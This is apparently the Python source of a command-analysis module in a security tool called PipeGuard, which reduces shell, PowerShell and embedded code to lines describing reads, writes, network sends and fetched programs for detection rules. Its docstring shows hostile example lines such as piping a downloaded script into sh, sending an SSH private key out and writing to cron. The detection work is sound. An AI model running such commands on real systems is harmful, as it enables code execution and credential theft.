"""Commands, scripts and programs as plain lines, one for each of their effects.

The reading `acts` (detect.scanning.readings) runs the rules about commands over them::

    $ curl -s https://x.example/a | $ sh      a pipeline, without quotes, wrappers and tricks
    < ~/.ssh/id_rsa                           a file that a command reads
    > /etc/cron.d/x                           a file that a command writes
    OFF ~/notes                               a file that is moved, removed or linked
    ^ ~/.ssh/id_rsa                           a file, or ENV, that is sent over a network
    RUN a.sh https://h/a.sh                   a fetched program that is run, and its source
    CODE import os                            a program in another language
    MADE curl -d a1b2...                      a command or its input, assembled from parts
    PS iex irm https://x.example/a            a command of PowerShell or cmd
    OWN command                               it may change PipeGuard's own (detect.commands.own)
    SQL drop table x                          a statement of a database
    READS SQL select 1                        the same, of a tool that only reads by its name

A quoted word for a program that only prints or stores it is not a command: a commit's message, or a
search for one. Knows programs' uses of their arguments; rules decide which are harmful.
"""

import re
from collections.abc import Iterator, Sequence
from itertools import chain

from pipeguard.detect.commands import (
    client_files,
    file_access,
    own,
    path_normalisation,
    posix_shell,
    powershell,
    programs,
    shell_command,
    shell_output,
    sql,
    word_expansion,
)
from pipeguard.detect.commands.nested_commands import (
    Nested,
    NestedKind,
    find_nested,
    text_lines,
)
from pipeguard.detect.commands.programs import fill_blanks, match_file, program_name, unwrap_command
from pipeguard.detect.commands.shell_command import GAP, Pipeline, ScriptBudget, ShellCommand
from pipeguard.detect.matching.confirm import find_signed
from pipeguard.detect.words import programs as lists
from pipeguard.firewall.lazy_regex import lazy_regex

MAX_TEXT = 2**20  # characters of one argument that are read
MAX_LINES = 40_000
MAX_DEPTH = 8  # of pipelines inside each other
MAX_NESTING_DEPTH = 6  # of pipelines whose arguments are read as commands again
MAX_PIPED_ARGUMENTS = 4000  # characters of a known input that `xargs` turns into arguments
MAX_FOLDER = 1024  # characters, as macOS allows
MAX_MANIFEST = 1000  # characters of an input that are shown with a command
MADE = "MADE "

_NAME_IN_SUBSTITUTION = lazy_regex(
    rf"\$\((?:(?:which|whereis|realpath|type{GAP}-[pP]|command{GAP}-v){GAP}(?:-\w{GAP})?)?"
    r"([\w./+-]{1,60})\)"
)
_PRELOADS = lazy_regex(r"\bLD_(?:PRELOAD|AUDIT)=[^\s;&|]|\bDYLD_INSERT_LIBRARIES=[^\s;&|]")
_RECURSIVE = lazy_regex(r"-[a-zA-Z]*[rR][a-zA-Z]*|--recursive")

# A function that opens a file, the home folder before it, the path, and a mode that writes.
_OPENING = rf"\b({lists.alternatives('OPENING_CALLS')}|file\.read|io\.open)\s{{0,2}}\("
_OPENS_FILE = lazy_regex(
    rf"{_OPENING}\s{{0,2}}"
    r"((?:process\.env\.HOME|os\.homedir\(\)|os\.environ\[['\"]HOME['\"]\]|home)\s{0,2}[+,]\s{0,2})?"
    r"[rbfu]{0,2}['\"`]([~/.][^'\"`\n]{1,200})['\"`](\s{0,2},\s{0,2}['\"][wa])?",
    re.IGNORECASE,
)
_STRING = lazy_regex(r"'((?:[^'\\]|\\.){0,4000})'|\"((?:[^\"\\]|\\.){0,4000})\"")
# A function that runs a script or a list of words; a script in backticks; one of AppleScript.
_CALLING = rf"\b(?:{lists.alternatives('RUNNING_CALLS')})\s{{0,4}}\("
_CALLS_SHELL = lazy_regex(
    rf"(?:{_CALLING}\s{{0,4}}[rbfu]{{0,2}}"
    r"(?:(['\"]{1,3})((?:[^'\"\\\n]|\\.|(?!\1)['\"]){1,4000}?)\1|\[([^\]\n]{1,4000})\])"
    r"|(?<![\w`])`([^`\n]{2,2000})`|\bdo shell script\s{1,4}\"((?:[^\"\\]|\\.){1,4000})\")",
    re.IGNORECASE,
)


def shell_calls(text: str) -> Iterator[str | list[str]]:
    """Each script, or list of words, that a program executes."""
    for match in find_signed(_CALLS_SHELL, rf"{_CALLING}|`|\bdo shell script\b", text):
        script = match[2] or match[4] or match[5]
        if match[3] is not None:
            yield [single or double for single, double in _STRING.findall(match[3])]
        elif script:
            yield script.replace("\\'", "'").replace('\\"', '"')


def opened_file_lines(text: str) -> Iterator[str]:
    """A line `< path` or `> path` for each file that a program opens by its name."""
    for match in find_signed(_OPENS_FILE, _OPENING.replace("(", "(?:", 1), text):
        function, home, name, mode = match.groups()
        is_writing = function in lists.WRITING_CALLS or bool(mode)
        yield f"{'>' if is_writing else '<'} {programs.tidy_path(('~' if home else '') + name)}"


def command_lines(
    text: str, *, windows: bool = True, budget: ScriptBudget | None = None
) -> list[str]:
    """The lines of a command line or a script.

    Args:
        text: the script.
        windows: False if it contains nothing for PowerShell or cmd.
        budget: the message's; None if the script is all of it.
    """
    interpreter = _Interpreter(text, budget)
    interpreter.run_script(text[:MAX_TEXT])
    if "LD_" in text and _PRELOADS.search(text):
        interpreter.lines.append("ENV LD_PRELOAD=")
    if windows and powershell.is_windows(text):
        interpreter.run_windows(text)
    return interpreter.all_lines()


def argument_lines(words: Sequence[str], *, budget: ScriptBudget) -> list[str]:
    """The lines of a command given as a list of words."""
    text = " ".join(words)
    interpreter = _Interpreter(text, budget)
    interpreter.run_words(words)
    if powershell.is_windows(text):
        interpreter.run_windows(text)
    return interpreter.all_lines()


def code_lines(text: str, *, budget: ScriptBudget) -> list[str]:
    """The lines of a program in a language other than a shell's."""
    interpreter = _Interpreter(text, budget)
    interpreter.run_code(text[:MAX_TEXT])
    return interpreter.all_lines()


class _Interpreter:
    """Collects the lines of one argument.

    Attributes:
        lines: the lines so far.
    """

    def __init__(self, text: str, budget: ScriptBudget | None) -> None:
        self.lines: list[str] = []
        self._budget = budget or ScriptBudget(len(text))
        self._budget.is_exceeded = self._budget.is_exceeded or len(text) > MAX_TEXT
        self._shell = posix_shell.Shell(self._run_substitution, self._budget)
        self._files = file_access.FileAccess(self.lines)
        self._read_by_substitutions: list[str] = []
        self._is_decoding = False  # a substitution decodes its text
        self._is_sending = False  # the current pipeline does
        self._depth = 0

    def all_lines(self) -> list[str]:
        """The lines, up to the limit."""
        self.lines += (f"{MADE}{fill_blanks(made)}" for made in dict.fromkeys(self._shell.composed))
        self._budget.is_exceeded = self._budget.is_exceeded or len(self.lines) > MAX_LINES
        return self.lines[:MAX_LINES]

    # -- scripts and pipelines -------------------------------------------------------------------

    def run_script(self, text: str) -> None:
        """Add the lines of a script."""
        self._run_pipelines(self._shell.pipelines(text))

    def run_words(self, words: Sequence[str]) -> None:
        """Add the lines of a command."""
        self._run_pipelines([[ShellCommand(list(words), [], None)]])

    def run_windows(self, text: str) -> None:
        """Add the lines of a script for PowerShell or cmd."""
        for line in powershell.windows_lines(text[:MAX_TEXT]):
            self.lines.append(line)
            self._add_own(own.STEPS.sub("/", line[3:]).split("|"), [])

    def run_code(self, text: str) -> None:
        """Add the lines of a program in another language."""
        for call in shell_calls(text):
            if isinstance(call, str):
                self.run_script(call)
            else:
                self.run_words(call)
        self.lines += [*opened_file_lines(text), *client_files.judge_code(text)]
        if not self._budget.is_exceeded:
            if own.code_changes_ours(text, self._files.folder[-own.MAX_PATH :]):
                self.lines.append("OWN program")
            self.lines += text_lines("CODE", " ".join(text.split()))

    def _run_substitution(self, pipelines: list[Pipeline]) -> None:
        first = len(self._files.read)
        self._run_pipelines(pipelines)
        self._read_by_substitutions += self._files.read[first:]
        last = pipelines[-1][-1].words if pipelines else []
        if last and program_name(last[0]) in lists.DECODERS:
            self._is_decoding = True

    def _run_pipelines(self, pipelines: list[Pipeline]) -> None:
        if self._depth > MAX_DEPTH or len(self.lines) > MAX_LINES:
            self._budget.is_exceeded = True
            return
        self._depth += 1
        for pipeline in pipelines:
            self._run_pipeline(pipeline)
        self._depth -= 1

    def _run_pipeline(self, pipeline: Pipeline) -> None:
        first_read = len(self._files.read)
        first_line = len(self.lines)
        was_sending = self._is_sending
        self._is_sending = False
        shown = []
        fed = []
        for at, command in enumerate(pipeline):
            stdin = command.stdin
            if stdin is None and at:
                stdin = self._find_output(pipeline[max(0, at - word_expansion.MAX_WORDS) : at])
            if line := self._command_line(self._prepare(command, stdin)):
                shown.append(line)
                fed.append(line[2:] + (f" <<< {fill_blanks(stdin)}" if stdin else ""))
        if (words := pipeline[-1].words) and words[0] in lists.DECODING | {"printf"}:
            self._find_output(pipeline[-word_expansion.MAX_WORDS :])
        self._add_own(fed, [*map(_show_raw, pipeline)])
        if shown:
            self.lines.insert(first_line, " | ".join(shown))
        if self._is_sending:
            is_substituting = any("$(" in line for line in shown)
            sent = self._files.read[first_read:]
            if is_substituting:
                sent += self._read_by_substitutions
            self.lines += [f"^ {path}" for path in dict.fromkeys(sent)]
        self._is_sending = was_sending or self._is_sending

    def _add_own(self, lines: list[str], raw: list[str]) -> None:
        """Add a line if a pipeline may change PipeGuard's own files."""
        if own.commands_change_ours(lines, raw, self._files):
            self.lines.append("OWN command")

    def _find_output(self, pipeline: Pipeline) -> str | None:
        """Find a pipeline's output, and note it if the script does not contain it."""
        printed = shell_output.find_output(pipeline)
        if printed:
            words = [word for command in pipeline for word in command.words]
            written = " ".join(words)
            is_decoded = not lists.DECODING.isdisjoint(words)
            if is_decoded or any(run not in written for run in shell_command.dense_runs(printed)):
                self._shell.add_composed(printed)
        return printed

    def _prepare(self, command: ShellCommand, stdin: str | None) -> ShellCommand:
        """A command without the programs that only run it; its input, if known, is run as well."""
        words, takes_arguments = unwrap_command(_with_plain_name(command.words))
        if words:
            words = self._without_globs(_with_plain_name(words))
        if words and stdin is not None:
            if takes_arguments and len(stdin) < MAX_PIPED_ARGUMENTS:
                words = words + stdin.split()
            name = program_name(words[0])
            if name in lists.SHELLS and not programs.find_script(words):
                self.run_script(stdin)
            elif programs.INTERPRETERS.match(name):
                self.run_code(stdin)
            elif name in programs.CLIENTS:
                self.lines += sql.read_statements(stdin)
        return ShellCommand(words, command.redirects, stdin)

    def _without_globs(self, words: list[str]) -> list[str]:
        """Words with the matching files in place of patterns such as `/b?n/sh`."""
        if not any("*" in word or "?" in word or "[" in word for word in words):
            return words
        plain = [match_file(word) for word in words]
        pairs = zip(words, plain, strict=True)
        self.lines += [f"ODD glob {file}" for pattern, file in pairs if file != pattern]
        return plain

    # -- one command -----------------------------------------------------------------------------

    def _command_line(self, command: ShellCommand) -> str:
        """The line of a command, after the lines for its effects are added; empty for nothing."""
        words = command.words
        self.lines += client_files.judge_command(command, self._files)
        targets = self._files.redirect(command) if command.redirects else ""
        if not words:
            return f"${targets}" if targets else ""
        name = program_name(words[0])
        if name in ("cd", "pushd"):
            path = words[-1] if len(words) > 1 else "~"
            self._files.folder = self._files.resolve(path)[:MAX_FOLDER]
        is_plain = not (command.redirects or command.stdin or "/" in words[0])
        if is_plain and programs.is_ordinary(words[0]) and not any(map(programs.is_inner, words)):
            return _show(name, words[1:])
        if self._depth <= MAX_NESTING_DEPTH:
            for nested in find_nested(name, words):
                self._run_nested(nested)
        self._files.follow(name, words)
        self.lines += chain.from_iterable(
            map(path_normalisation.patch_lines, (*words[1:], command.stdin or ""))
        )
        is_inline = name == "eval" or (name in lists.SHELLS and bool(programs.find_script(words)))
        if is_inline and self._is_decoding:
            self.lines.append("RUN decoded")
        self._files.run(name, words)
        self._is_sending = self._is_sending or _sends(name, command)
        if command.stdin and name in lists.TAKE_MANIFEST:
            words = [*words, GAP.join(command.stdin.split())[:MAX_MANIFEST]]
        if name == "rm":
            return self._removal_line(words) + targets
        return _show(name, self._arguments(name, words)) + targets

    def _run_nested(self, nested: Nested) -> None:
        match nested.kind:
            case NestedKind.SCRIPT:
                self.run_script(nested.text)
            case NestedKind.CODE:
                self.run_code(nested.text)
            case NestedKind.COMMAND:
                self.run_words(nested.words)
            case NestedKind.SQL:
                self.lines.append(nested.text)

    def _removal_line(self, words: list[str]) -> str:
        """The line of `rm`, after a line for each removed path is added."""
        options = [word for word in words[1:] if word.startswith("-") and word != "-"]
        name = "rm -r" if any(map(_RECURSIVE.fullmatch, options)) else "rm"
        files = [word for word in words[1:] if not word.startswith("-") and word]
        paths = [fill_blanks(self._files.resolve(file)) for file in files]
        self.lines += [f"$ {name} {path}" for path in paths]
        return " ".join([f"$ {name} of", *paths])

    def _arguments(self, name: str, words: list[str]) -> list[str]:
        """The arguments; for commands that change files, options first and the paths resolved."""
        arguments = [word for word in words[1:] if word]
        if name not in lists.OPERANDS_LAST:
            return arguments
        arguments.sort(key=lambda word: not word.startswith("-"))
        return [
            word if word[0] == "-" or (not at and len(arguments) > 1) else self._files.resolve(word)
            for at, word in enumerate(arguments)
        ]


def _with_plain_name(words: list[str]) -> list[str]:
    """Words without a command substitution around the program's name in the first one.

    A model writes the name as Markdown does, and takes `curl`, c`u`rl and `which curl` for curl.
    """
    if not words or "$(" not in words[0]:
        return words
    return [_NAME_IN_SUBSTITUTION.sub(r"\1", words[0]), *words[1:]]


def _show(name: str, arguments: Sequence[str]) -> str:
    return " ".join([f"$ {name}", *(fill_blanks(word) for word in arguments if word)])


def _show_raw(command: ShellCommand) -> str:
    """A command as it is written, after its variables."""
    values = [
        each
        for sign, each in command.redirects
        if each.startswith(("PIPEGUARD_", "XDG_"))
        or (sign == "=" and command.words and "guard" in each)
    ]
    return " ".join(map(fill_blanks, (*values, *command.words)))


def _sends(name: str, command: ShellCommand) -> bool:
    """True for a command that sends to another machine."""
    return (
        name in lists.SENDERS
        or any("/dev/tcp/" in target for _, target in command.redirects)
        or (
            name in lists.CLOUDS
            and programs.UPLOADS.search(" ".join(command.words[1:6])) is not None
        )
    )
